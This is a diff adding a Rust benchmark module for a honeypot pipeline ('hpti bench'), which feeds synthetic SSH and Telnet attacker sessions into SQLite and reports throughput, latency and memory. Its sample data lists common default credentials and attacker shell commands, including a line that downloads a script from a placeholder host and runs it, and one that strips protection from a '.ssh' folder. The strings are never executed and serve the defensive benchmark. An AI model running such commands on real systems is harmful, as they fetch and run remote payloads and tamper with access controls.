@@ -1,0 +1,360 @@
+//! `hpti bench`: load generators that measure the real components.
+
+use std::net::IpAddr;
+use std::path::PathBuf;
+use std::sync::Arc;
+use std::time::{Duration, Instant};
+
+use anyhow::Context as _;
+use hdrhistogram::Histogram;
+use hpti_core::ack::{AckBatch, AckReceiver, DeliveryStatus};
+use hpti_core::event::{AuthMethod, Event, EventKind, Protocol, Timestamp};
+use hpti_core::metrics::PipelineMetrics;
+use hpti_core::pipeline::{Envelope, Pipeline};
+use hpti_store::{EventQueries, SqliteStore};
+use prometheus_client::registry::Registry;
+use serde::Serialize;
+use sha2::{Digest, Sha256};
+use tokio::sync::mpsc;
+
+use crate::config::Config;
+
+#[derive(Debug, clap::Subcommand)]
+pub enum BenchCommand {
+    /// Synthetic attack traffic through the real pipeline into a fresh SQLite file.
+    Pipeline(PipelineArgs),
+}
+
+#[derive(Debug, clap::Args)]
+pub struct PipelineArgs {
+    /// Events to send.
+    #[arg(long, default_value_t = 100_000)]
+    events: u64,
+    /// Steady rate in events per second; as fast as possible when absent.
+    #[arg(long)]
+    rate: Option<u64>,
+    /// Database file to create (replaced if present); a temporary file by default.
+    #[arg(long)]
+    db: Option<PathBuf>,
+    /// Seed of the synthetic traffic.
+    #[arg(long, default_value_t = 1)]
+    seed: u64,
+    /// Session ids: `time-ordered` as hpti's sensors make them, or `random` as Cowrie's
+    /// logs carry them (12 random hex digits).
+    #[arg(long, value_enum, default_value_t = SessionIds::TimeOrdered)]
+    session_ids: SessionIds,
+}
+
+#[derive(Debug, Clone, Copy, PartialEq, Eq, clap::ValueEnum, Serialize)]
+#[serde(rename_all = "kebab-case")]
+enum SessionIds {
+    TimeOrdered,
+    Random,
+}
+
+#[derive(Debug, Serialize)]
+struct PipelineResult {
+    bench: &'static str,
+    events: u64,
+    stored: u64,
+    rate_target: Option<u64>,
+    session_ids: SessionIds,
+    seconds: f64,
+    events_per_sec: f64,
+    p50_latency_ms: f64,
+    p99_latency_ms: f64,
+    max_latency_ms: f64,
+    peak_rss_mb: f64,
+    db_mb: f64,
+    batch_size: usize,
+    linger_ms: u128,
+}
+
+pub async fn bench(config: &Config, command: BenchCommand) -> anyhow::Result<()> {
+    match command {
+        BenchCommand::Pipeline(args) => {
+            let result = pipeline(config, &args).await?;
+            println!("{}", serde_json::to_string(&result)?);
+            Ok(())
+        }
+    }
+}
+
+/// Peak resident set size of this process, from `/proc/self/status` (Linux).
+pub fn peak_rss_mb() -> f64 {
+    std::fs::read_to_string("/proc/self/status")
+        .ok()
+        .and_then(|status| {
+            status
+                .lines()
+                .find_map(|l| l.strip_prefix("VmHWM:"))
+                .and_then(|v| v.trim().trim_end_matches("kB").trim().parse::<f64>().ok())
+        })
+        .map_or(0.0, |kib| kib / 1024.0)
+}
+
+async fn pipeline(config: &Config, args: &PipelineArgs) -> anyhow::Result<PipelineResult> {
+    let tempdir = tempdir_for_bench()?;
+    let db = args
+        .db
+        .clone()
+        .unwrap_or_else(|| tempdir.join("bench.db"));
+    for suffix in ["", "-wal", "-shm"] {
+        let mut path = db.clone().into_os_string();
+        path.push(suffix);
+        let _ = std::fs::remove_file(PathBuf::from(path));
+    }
+    let mut options = config.sqlite_options();
+    options.path = db.clone();
+    let store = SqliteStore::open(options).await.context("cannot create the bench database")?;
+    let mut pipeline_config = config.pipeline_config();
+    pipeline_config.dead_letter_path = tempdir.join("dead-letters.jsonl");
+    let batch = pipeline_config.batch;
+    let mut registry = Registry::default();
+    let pipeline = Pipeline::builder(pipeline_config)
+        .metrics(PipelineMetrics::new(&mut registry))
+        .sink(Arc::new(store.clone()))
+        .start()?;
+
+    let (pending_tx, pending_rx) = mpsc::channel::<(Instant, u64, AckReceiver)>(4096);
+    let latency = tokio::spawn(track_latency(pending_rx));
+    let emitter = pipeline.emitter();
+    let mut traffic = Traffic::new(args.seed, args.session_ids);
+    let started = Instant::now();
+    match args.rate {
+        None => {
+            const PER_ACK: u64 = 256;
+            let mut sent = 0;
+            while sent < args.events {
+                let n = PER_ACK.min(args.events - sent);
+                let (ack, receiver) = AckBatch::new();
+                let created = Instant::now();
+                for _ in 0..n {
+                    let envelope = Envelope {
+                        event: traffic.next_event(),
+                        ack: Some(ack.clone()),
+                        origin: None,
+                    };
+                    emitter.emit_envelope(envelope).await?;
+                }
+                drop(ack);
+                pending_tx.send((created, n, receiver)).await?;
+                sent += n;
+            }
+        }
+        Some(rate) => {
+            anyhow::ensure!(rate > 0, "--rate must be positive");
+            // One tick a millisecond; each tick sends what the schedule owes so far.
+            let mut ticker = tokio::time::interval(Duration::from_millis(1));
+            ticker.set_missed_tick_behavior(tokio::time::MissedTickBehavior::Burst);
+            let mut sent = 0u64;
+            while sent < args.events {
+                ticker.tick().await;
+                let due = ((started.elapsed().as_secs_f64() * rate as f64) as u64).min(args.events);
+                if due <= sent {
+                    continue;
+                }
+                let n = due - sent;
+                let (ack, receiver) = AckBatch::new();
+                let created = Instant::now();
+                for _ in 0..n {
+                    emitter
+                        .emit_envelope(Envelope {
+                            event: traffic.next_event(),
+                            ack: Some(ack.clone()),
+                            origin: None,
+                        })
+                        .await?;
+                }
+                drop(ack);
+                pending_tx.send((created, n, receiver)).await?;
+                sent = due;
+            }
+        }
+    }
+    drop(pending_tx);
+    drop(emitter);
+    let histogram = latency.await?;
+    let seconds = started.elapsed().as_secs_f64();
+    pipeline.shutdown().await;
+    let stored = store.count_events().await?;
+    store.close().await;
+    let db_bytes: u64 = ["", "-wal"]
+        .iter()
+        .filter_map(|suffix| {
+            let mut path = db.clone().into_os_string();
+            path.push(suffix);
+            std::fs::metadata(PathBuf::from(path)).ok()
+        })
+        .map(|m| m.len())
+        .sum();
+    if args.db.is_none() {
+        let _ = std::fs::remove_dir_all(&tempdir);
+    }
+    let ms = |micros: u64| micros as f64 / 1000.0;
+    Ok(PipelineResult {
+        bench: "pipeline",
+        events: args.events,
+        stored,
+        rate_target: args.rate,
+        session_ids: args.session_ids,
+        seconds,
+        events_per_sec: args.events as f64 / seconds,
+        p50_latency_ms: ms(histogram.value_at_quantile(0.50)),
+        p99_latency_ms: ms(histogram.value_at_quantile(0.99)),
+        max_latency_ms: ms(histogram.max()),
+        peak_rss_mb: peak_rss_mb(),
+        db_mb: db_bytes as f64 / 1_048_576.0,
+        batch_size: batch.max_events,
+        linger_ms: batch.linger.as_millis(),
+    })
+}
+
+fn tempdir_for_bench() -> anyhow::Result<PathBuf> {
+    let dir = std::env::temp_dir().join(format!("hpti-bench-{}", std::process::id()));
+    std::fs::create_dir_all(&dir)?;
+    Ok(dir)
+}
+
+/// Latency of each acknowledgement batch, from the creation of its first event until it
+/// is durable, recorded once per event of the batch (microseconds).
+async fn track_latency(mut pending: mpsc::Receiver<(Instant, u64, AckReceiver)>) -> Histogram<u64> {
+    let mut histogram = Histogram::<u64>::new(3).unwrap_or_else(|_| unreachable_histogram());
+    let mut failed = 0u64;
+    while let Some((created, events, receiver)) = pending.recv().await {
+        if receiver.await != DeliveryStatus::Delivered {
+            failed += events;
+        }
+        let micros = u64::try_from(created.elapsed().as_micros()).unwrap_or(u64::MAX);
+        let _ = histogram.record_n(micros.max(1), events);
+    }
+    if failed > 0 {
+        tracing::error!(failed, "events were not delivered");
+    }
+    histogram
+}
+
+fn unreachable_histogram() -> Histogram<u64> {
+    // `new(3)` only fails for more than 5 significant digits.
+    Histogram::<u64>::new(1).unwrap_or_else(|_| std::process::abort())
+}
+
+const USERNAMES: &[&str] = &["root", "admin", "ubuntu", "user", "test", "oracle", "pi", "postgres", "git", "support"];
+const PASSWORDS: &[&str] = &["123456", "admin", "password", "root", "1234", "12345678", "qwerty", "toor", "raspberry", "P@ssw0rd", "111111", "admin123"];
+const COMMANDS: &[&str] = &[
+    "uname -a",
+    "cat /proc/cpuinfo | grep name | wc -l",
+    "free -m | grep Mem | awk '{print $2 ,$3, $4, $5, $6, $7}'",
+    "ls -lh $(which ls)",
+    "crontab -l",
+    "w",
+    "uname -m",
+    "cat /proc/cpuinfo | grep model | grep name | wc -l",
+    "top",
+    "whoami",
+    "lscpu | grep Model",
+    "cd ~; chattr -ia .ssh; lockr -ia .ssh",
+    "echo -e \"\\x61\\x75\\x74\\x68\"",
+    "cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; wget http://203.0.113.7/bins.sh; chmod 777 bins.sh; sh bins.sh",
+];
+const CLIENTS: &[&str] = &["SSH-2.0-Go", "SSH-2.0-libssh2_1.10.0", "SSH-2.0-OpenSSH_8.2p1 Ubuntu-4ubuntu0.5", "SSH-2.0-paramiko_3.4.0", "SSH-2.0-PUTTY"];
+
+/// Synthetic honeypot traffic with the shape of the real thing: sessions from a pool of
+/// recurring attacker addresses, a handshake, a run of login attempts, and for the
+/// sessions that get in, commands and an occasional download.
+struct Traffic {
+    rng: fastrand::Rng,
+    queue: std::collections::VecDeque<Event>,
+    session_ids: SessionIds,
+}
+
+impl Traffic {
+    fn new(seed: u64, session_ids: SessionIds) -> Self {
+        Self {
+            rng: fastrand::Rng::with_seed(seed),
+            queue: std::collections::VecDeque::with_capacity(64),
+            session_ids,
+        }
+    }
+
+    fn next_event(&mut self) -> Event {
+        loop {
+            if let Some(event) = self.queue.pop_front() {
+                return event.with_time(Timestamp::now());
+            }
+            self.new_session();
+        }
+    }
+
+    fn pick<'a>(&mut self, items: &[&'a str]) -> &'a str {
+        items[self.rng.usize(..items.len())]
+    }
+
+    fn new_session(&mut self) {
+        let session = match self.session_ids {
+            SessionIds::TimeOrdered => hpti_core::event::EventId::new().to_string(),
+            SessionIds::Random => format!("{:012x}", self.rng.u64(..) >> 16),
+        };
+        // 5,000 recurring attackers, spread over public-looking /8s.
+        let attacker = self.rng.u32(..5000);
+        let ip = IpAddr::from([
+            [45, 61, 80, 103, 118, 141, 185, 193, 218, 222][(attacker % 10) as usize],
+            (attacker / 10 % 256) as u8,
+            (attacker * 7 % 256) as u8,
+            (attacker % 250 + 1) as u8,
+        ]);
+        let port = self.rng.u16(1024..65535);
+        let sensor = ["ssh-eu-1", "ssh-us-1", "telnet-eu-1"][self.rng.usize(..3)];
+        let protocol = if sensor.starts_with("telnet") {
+            Protocol::Telnet
+        } else {
+            Protocol::Ssh
+        };
+        let dst = IpAddr::from([192, 0, 2, 10]);
+        let make = |kind: EventKind| {
+            Event::new(sensor, protocol.clone(), ip, kind)
+                .with_session(session.clone())
+                .with_source_port(port)
+                .with_destination(dst, 22)
+        };
+        self.queue.push_back(make(EventKind::SessionStarted));
+        let client = self.pick(CLIENTS).to_owned();
+        self.queue.push_back(make(EventKind::ClientVersion { version: client }));
+        let attempts = 1 + self.rng.usize(..6);
+        let success = self.rng.u8(..100) < 30;
+        for attempt in 0..attempts {
+            let username = self.pick(USERNAMES).to_owned();
+            let password = self.pick(PASSWORDS).to_owned();
+            self.queue.push_back(make(EventKind::LoginAttempt {
+                username,
+                password: Some(password),
+                key_type: None,
+                key_fingerprint: None,
+                method: AuthMethod::Password,
+                success: success && attempt + 1 == attempts,
+            }));
+        }
+        if success {
+            for _ in 0..self.rng.usize(1..8) {
+                let command = self.pick(COMMANDS).to_owned();
+                self.queue.push_back(make(EventKind::CommandInput { command }));
+            }
+            if self.rng.u8(..100) < 20 {
+                let sample = self.rng.u8(..50);
+                let digest = Sha256::digest([sample]);
+                let sha256 = digest.iter().map(|b| format!("{b:02x}")).collect::<String>();
+                self.queue.push_back(make(EventKind::FileDownload {
+                    url: format!("http://203.0.113.{}/bins/x86_{sample}", sample % 20 + 1),
+                    sha256: Some(sha256),
+                    size: Some(40_000 + u64::from(sample) * 1000),
+                    error: None,
+                }));
+            }
+        }
+        let duration_ms = self.rng.u64(200..120_000);
+        self.queue.push_back(make(EventKind::SessionClosed {
+            duration_ms,
+            recording: None,
+        }));
+    }
+}
